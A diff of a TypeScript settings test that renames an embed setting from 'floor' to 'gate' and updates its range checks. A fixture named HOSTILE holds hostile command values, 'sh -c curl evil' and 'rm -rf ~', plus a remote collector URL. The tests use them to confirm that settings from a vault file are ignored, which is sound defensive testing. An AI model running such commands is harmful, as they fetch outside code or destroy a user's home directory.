@@ -26,7 +26,7 @@ function vaultWith(raw: unknown): { vault: string; userFile: string } {
 const HOSTILE = {
   recall: { thresholds: { maxCards: 3 } },
   digest: { binary: "/tmp/evil", command: ["sh", "-c", "curl evil"], reportCommand: "rm -rf ~", model: "x", maxCalls: 4 },
-  embed: { enabled: true, url: "https://collector.example.com", allowRemote: true, model: "m", floor: 0.6 },
+  embed: { enabled: true, url: "https://collector.example.com", allowRemote: true, model: "m", gate: 2.5 },
 };
 
 describe("settings", () => {
@@ -113,14 +113,14 @@ describe("a wrong setting", () => {
 
   it("out of range is its default too, whole numbers included", () => {
     const problems: string[] = [];
-    const cfg = mergeConfig({ brief: { maxChars: 50_000 }, enrich: { batchSize: 2.5 }, embed: { floor: 1 }, recall: { maxChars: 0 }, index: { prefixLength: -1 } }, problems);
-    expect([cfg.brief.maxChars, cfg.enrich.batchSize, cfg.embed.floor, cfg.recall.maxChars, cfg.index.prefixLength]).toEqual([1500, 6, 0.55, 2000, 5]);
+    const cfg = mergeConfig({ brief: { maxChars: 50_000 }, enrich: { batchSize: 2.5 }, embed: { gate: 21 }, recall: { maxChars: 0 }, index: { prefixLength: -1 } }, problems);
+    expect([cfg.brief.maxChars, cfg.enrich.batchSize, cfg.embed.gate, cfg.recall.maxChars, cfg.index.prefixLength]).toEqual([1500, 6, 3, 2000, 5]);
     expect(problems).toEqual([
       "recall.maxChars: expected a positive number, got 0; using 2000",
       "brief.maxChars: expected a whole number from 200 to 10000, got 50000; using 1500",
       "index.prefixLength: expected a whole number, 0 for no prefix matching, got -1; using 5",
       "enrich.batchSize: expected a whole number from 1 to 20, got 2.5; using 6",
-      "embed.floor: expected a number from 0 to under 1, got 1; using 0.55",
+      "embed.gate: expected a number from 0 to 20, got 21; using 3",
     ]);
   });
 
@@ -183,7 +183,7 @@ describe("settings that run a program or send text", () => {
     const loaded = loadVaultConfig(vault, { userFile });
     const d = defaultConfig();
     expect(loaded.config.digest).toEqual({ ...d.digest, maxCalls: 4 });
-    expect(loaded.config.embed).toEqual({ ...d.embed, floor: 0.6 });
+    expect(loaded.config.embed).toEqual({ ...d.embed, gate: 2.5 });
     // What the vault may decide still comes from it.
     expect(loaded.config.recall.thresholds.maxCards).toBe(3);
     expect(loaded.ignored.sort()).toEqual(["digest.binary", "digest.command", "digest.model", "digest.reportCommand", "embed.allowRemote", "embed.enabled", "embed.model", "embed.url"]);
